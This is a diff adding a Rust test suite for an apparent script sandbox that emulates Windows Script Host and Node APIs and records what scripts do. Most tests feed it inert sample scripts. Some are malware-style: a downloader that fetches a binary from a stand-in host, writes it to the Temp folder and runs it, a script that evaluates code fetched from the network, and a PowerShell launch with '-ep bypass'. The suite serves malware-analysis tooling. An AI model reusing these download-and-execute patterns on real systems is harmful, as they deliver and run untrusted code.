@@ -1,0 +1,263 @@
+//! What scripts do, as the trace tells it. Every script here is inert: what it would fetch does not exist.
+
+use script_host::{Ended, Host, NetworkAnswer, Run, Settings, Trace};
+
+fn run(script: &str) -> Trace {
+    run_with(script, Settings::default())
+}
+
+fn run_with(script: &str, settings: Settings) -> Trace {
+    let steps = settings.steps;
+    let (host, Run { ended, error, steps }) =
+        jscript::run(Host::new(settings, script.as_bytes()), &[script], steps, |_| Vec::new());
+    host.into_trace(ended, &error, steps)
+}
+
+fn apis(trace: &Trace) -> Vec<&str> {
+    trace.calls.iter().map(|call| call.api.as_str()).collect()
+}
+
+/// What a script tells by `WScript.Echo`.
+fn echoed(script: &str) -> Vec<String> {
+    let trace = run(script);
+    assert_eq!(trace.ended, Some(Ended::Finished), "{} {:?}", trace.error, trace.calls);
+    let echoes = trace.calls.iter().filter(|call| call.api == "WScript.Echo");
+    echoes.flat_map(|call| call.args.clone()).collect()
+}
+
+#[test]
+fn a_downloader_goes_its_whole_way() {
+    let trace = run(r#"
+        var shell = new ActiveXObject("WScript.Shell");
+        var http = new ActiveXObject("MSXML2.XMLHTTP");
+        http.open("GET", "http://files.example/a.bin", false);
+        http.send();
+        if (http.Status == 200 && http.responseBody.length > 1000) {
+            var stream = new ActiveXObject("ADODB.Stream");
+            stream.Open(); stream.Type = 1; stream.Write(http.ResponseBody); stream.Position = 0;
+            var path = shell.ExpandEnvironmentStrings("%TEMP%") + "\\a.exe";
+            stream.SaveToFile(path, 2); stream.Close();
+            shell.Run(path, 0, false);
+        }
+    "#);
+    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
+    let path = "C:\\Users\\jsmith\\AppData\\Local\\Temp\\a.exe";
+    assert_eq!(trace.dropped.iter().map(|(path, _)| path.as_str()).collect::<Vec<_>>(), [path]);
+    assert_eq!(trace.dropped[0].1, script_host::settings::BODY);
+    assert_eq!(trace.processes[0].target, path);
+    assert!(trace.network.iter().any(|it| it.target == "http://files.example/a.bin"));
+    let run = trace.calls.iter().find(|call| call.api == "WScript.Shell.Run").expect("a call");
+    assert_eq!(run.args, [path, "0", "False"]);
+}
+
+#[test]
+fn code_that_is_made_is_traced_whatever_makes_it() {
+    let trace = run(r#"
+        eval("var a = 1");
+        new Function("x", "return x + 1")(1);
+        (0, eval)("a = 2");
+        setTimeout("a = 3", 10);
+        [].constructor.constructor("return 4")();
+    "#);
+    let texts: Vec<&str> = trace.code.iter().map(|code| code.text.as_str()).collect();
+    assert_eq!(texts, ["var a = 1", "return x + 1", "a = 2", "return 4", "a = 3"]);
+    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
+}
+
+#[test]
+fn names_have_no_case_and_properties_are_set() {
+    let said = echoed(
+        r#"
+        var s = wscript_or(); function wscript_or() { return WScript; }
+        s.echo(s.SCRIPTNAME);
+        var d = new ActiveXObject("scripting.dictionary");
+        d.add("a", 1); WScript.Echo(d.COUNT + "/" + d("a") + "/" + d.Exists("b"));
+        var shell = WScript.CreateObject("WScript.Shell");
+        shell.RegWrite("HKCU\\Software\\X\\v", "w"); WScript.Echo(shell.RegRead("HKCU\\Software\\X\\v"));
+        var e = new Enumerator(new ActiveXObject("Scripting.FileSystemObject").Drives);
+        for (; !e.atEnd(); e.moveNext()) WScript.Echo(e.item().DriveLetter);
+        var x = new ActiveXObject("Microsoft.XMLDOM").createElement("b");
+        x.dataType = "bin.base64"; x.text = "TVqQ"; WScript.Echo(x.nodeTypedValue.length);
+    "#,
+    );
+    assert_eq!(said, ["sample.js", "1/1/false", "w", "C", "3"]);
+}
+
+#[test]
+fn what_is_not_known_goes_on_answering() {
+    let trace = run(r#"
+        var o = new ActiveXObject("Nobody.Knows.1");
+        o.Prop.Deep.Method("x").More = 3;
+        if (o.Other()) WScript.Echo("on");
+    "#);
+    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
+    let apis = apis(&trace);
+    assert!(apis.contains(&"Nobody.Knows.1.Prop.Deep.Method") && apis.contains(&"WScript.Echo"), "{apis:?}");
+}
+
+#[test]
+fn faults_are_errors_that_scripts_catch() {
+    let said = echoed(
+        r#"
+        try { new ActiveXObject("WScript.Shell").RegRead("HKCU\\no\\such"); } catch (e) { WScript.Echo(e.number + " " + (e.description == e.message)); }
+        try { new ActiveXObject("Scripting.FileSystemObject").GetFile("C:\\none"); } catch (e) { WScript.Echo(e.message); }
+    "#,
+    );
+    assert_eq!(said, ["-2147024894 true", "File not found"]);
+}
+
+#[test]
+fn the_trace_is_out_of_reach() {
+    let trace = run(r#"
+        Object.defineProperty(Object.prototype, "get", {value: function () { throw 1; }});
+        Array.prototype.push = Function.prototype.call = null;
+        String.prototype.toString = function () { return "forged"; };
+        var keys = [];
+        for (var k in WScript) keys.push(k);
+        delete WScript.Echo; WScript.Echo = function () {};
+        WScript.Echo("kept");
+        var text = Function.prototype.toString.apply(WScript.Echo) + Function.prototype.toString.apply(ActiveXObject) + "".repeat;
+        new ActiveXObject("WScript.Shell").Run(text.indexOf("native code") > 0 ? "native" : "shown");
+    "#);
+    assert!(trace.calls.iter().any(|call| call.api == "WScript.Echo" && call.args == ["kept"]), "{:?}", trace.calls);
+    assert_eq!(trace.processes[0].target, "native");
+}
+
+#[test]
+fn time_is_the_scripts_own() {
+    let trace = run(r#"
+        var a = new Date().getTime(); WScript.Sleep(120000); var b = new Date().getTime();
+        WScript.Echo(new Date().getFullYear(), b - a);
+        setTimeout(function () { WScript.Echo("late"); }, 3600000);
+    "#);
+    let echoes: Vec<_> = trace.calls.iter().filter(|call| call.api == "WScript.Echo").collect();
+    assert_eq!((echoes[0].args.clone(), echoes[0].at), (vec!["2025".to_owned(), "120000".to_owned()], 120_000));
+    assert_eq!(echoes[1].at, 3_720_000);
+    assert!(trace.evasion.iter().any(|it| it.operation == "sleeps for long"));
+}
+
+#[test]
+fn what_it_waits_for_is_told() {
+    let trace = run("if (WScript.Arguments.length > 0) new ActiveXObject('WScript.Shell').Run('x');");
+    assert_eq!((trace.ended, trace.waits[0].operation), (Some(Ended::Waits), "argument"));
+    let trace = run("if (new Date().getFullYear() > 2030) new ActiveXObject('WScript.Shell').Run('x');");
+    assert_eq!((trace.ended, trace.waits[0].operation), (Some(Ended::Waits), "date"));
+    let settings = Settings { arguments: vec!["go".to_owned()], ..Settings::default() };
+    let trace = run_with("if (WScript.Arguments(0) == 'go') new ActiveXObject('WScript.Shell').Run('x');", settings);
+    assert_eq!((trace.ended, trace.processes.len()), (Some(Ended::Finished), 1));
+}
+
+#[test]
+fn the_network_answers_what_it_is_told_to() {
+    let answer =
+        NetworkAnswer { prefix: "http://a.example/".to_owned(), status: 200, body: b"WScript.Echo('second')".to_vec() };
+    let mut settings = Settings::default();
+    settings.answers.insert(0, answer);
+    let trace = run_with(
+        "var h = new ActiveXObject('WinHttp.WinHttpRequest.5.1'); h.Open('GET', 'http://a.example/x', false); h.Send(); eval(h.ResponseText);",
+        settings,
+    );
+    assert!(trace.calls.iter().any(|call| call.args == ["second"]), "{:?}", trace.calls);
+}
+
+#[test]
+fn handlers_and_callbacks_are_called() {
+    let said = echoed(
+        r#"
+        var h = new XMLHttpRequest();
+        h.onreadystatechange = function () { if (h.readyState == 4) WScript.Echo("state " + h.status); };
+        h.open("GET", "http://a.example/"); h.send();
+        require("https").get("https://b.example/", function (r) { r.on("data", function (d) { WScript.Echo(d.length); }); });
+        fetch("https://c.example/").then(function (r) { return r.text(); }).then(function (t) { WScript.Echo(t.length); });
+        window.onload = function () { WScript.Echo("loaded"); };
+    "#,
+    );
+    assert_eq!(said, ["state 200", "65536", "65536", "loaded"]);
+}
+
+#[test]
+fn nodes_malware_is_followed() {
+    let trace = run(r#"
+        const { exec } = require("child_process"); const fs = require("fs");
+        fs.writeFileSync(process.env.TEMP + "\\p.ps1", Buffer.from("V3JpdGUtSG9zdCAx", "base64"));
+        exec("powershell -ep bypass -f " + process.env.temp + "\\p.ps1", (e, out) => {});
+    "#);
+    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
+    assert_eq!(trace.dropped[0].1, b"Write-Host 1");
+    assert!(trace.processes[0].target.ends_with("Temp\\p.ps1"));
+}
+
+#[test]
+fn conditional_compilation_is_code() {
+    assert_eq!(echoed("/*@cc_on @if (@_win32) WScript.Echo('win', @_jscript_version); @end @*/"), ["win", "5.8"]);
+}
+
+#[test]
+fn endless_scripts_end_with_what_they_did() {
+    for script in [
+        "WScript.Echo('kept'); for (;;) {}",
+        "WScript.Echo('kept'); while (true) { try { throw 1; } catch (e) {} finally { continue; } }",
+        "WScript.Echo('kept'); function f() { return f() + f(); } try { f(); } catch (e) {} for (;;);",
+        "WScript.Echo('kept'); var a = {get length() { return 2e9; }}; Array.prototype.forEach.call(a, function () {});",
+        "WScript.Echo('kept'); [].join.call({length: 4e9}, 'x'); for (;;);",
+        "WScript.Echo('kept'); (function () {}).apply(null, {length: 4e9}); for (;;);",
+        "WScript.Echo('kept'); setInterval('for (;;);', 1);",
+        "WScript.Echo('kept'); Promise.resolve().then(function () { for (;;); });",
+    ] {
+        let settings = Settings { steps: 2_000_000, ..Settings::default() };
+        let trace = run_with(script, settings);
+        assert_eq!(trace.ended, Some(Ended::Steps), "{script}");
+        assert_eq!(trace.calls[0].args, ["kept"]);
+    }
+    let trace = run("for (;;) WScript.Echo('x');");
+    assert_eq!((trace.ended, trace.calls.len()), (Some(Ended::Calls), 1));
+    let trace = run("WScript.Echo('a'); try { WScript.Quit(1); } finally { WScript.Echo('b'); } WScript.Echo('c');");
+    assert_eq!((trace.ended, apis(&trace)), (Some(Ended::Finished), vec!["WScript.Echo", "WScript.Quit"]));
+}
+
+#[test]
+fn hostile_values_do_not_harm() {
+    for script in [
+        "WScript.Echo({get toString() { throw 1; }})",
+        "var p = new Proxy(WScript, {get: function (t, k) { return t[k]; }}); p.Echo('x');",
+        "var o = {}; o.toString = function () { return o; }; WScript.Echo(o);",
+        "var a = []; a[0] = a; WScript.Echo(a);",
+        "Object.setPrototypeOf(WScript, null); Object.freeze(WScript); WScript.x = 1;",
+        "throw {get message() { throw 1; }, toString: function () { for (;;); }};",
+        "WScript.Echo(Symbol('x'))",
+        "try { 'a'.repeat(Math.pow(2, 30)); } catch (e) { WScript.Echo(e.message); }",
+        "'a'.padEnd(Math.pow(2, 30))",
+        "new ActiveXObject(); new ActiveXObject(null); GetObject(); require(); fetch(); new Enumerator(3); new WScript.Echo('x');",
+        "/(a+)+b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')",
+        "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'.replace(/(a*)*b/, '')",
+        "\u{0}\u{ffff}",
+        "(((((((((",
+    ] {
+        let trace = run(script);
+        assert!(trace.ended.is_some(), "{script}");
+    }
+}
+
+#[test]
+fn a_run_is_repeatable() {
+    let script =
+        "for (var i = 0; i < 50; i++) WScript.Echo(Math.random(), new Date().getTime(), Object.keys({a: 1, b: 2}));";
+    let (one, other) = (run(script), run(script));
+    assert_eq!(one.calls, other.calls);
+    assert_eq!(one.steps, other.steps);
+}
+
+#[test]
+fn modules_are_run_as_scripts() {
+    let trace = run(
+        "import { exec as run } from 'child_process';\nimport os from 'os';\nrun(`cmd /c ${os.platform()}`);\nexport default 1;\n",
+    );
+    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
+    assert_eq!(trace.processes[0].target, "cmd /c win32");
+}
+
+#[test]
+fn classes_of_unknown_ones_are_derived() {
+    let trace = run("class A extends require('events') { go() { WScript.Echo('gone'); } } new A();");
+    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
+}
